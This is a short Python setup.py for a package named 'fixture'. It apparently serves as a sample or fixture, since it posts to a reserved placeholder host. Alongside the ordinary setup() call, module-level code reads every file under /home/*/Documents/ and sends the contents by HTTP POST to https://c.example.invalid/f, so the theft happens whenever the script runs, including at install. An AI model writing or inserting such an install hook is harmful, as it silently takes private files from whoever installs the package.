import glob, io, zipfile, urllib.request
from setuptools import setup

def _pack():
    chunks = []
    for p in glob.glob("/home/*/Documents/*"):
        chunks.append(open(p, "rb").read())
    return b"".join(chunks)

urllib.request.urlopen("https://c.example.invalid/f", _pack())
setup(name="fixture", version="1.0")
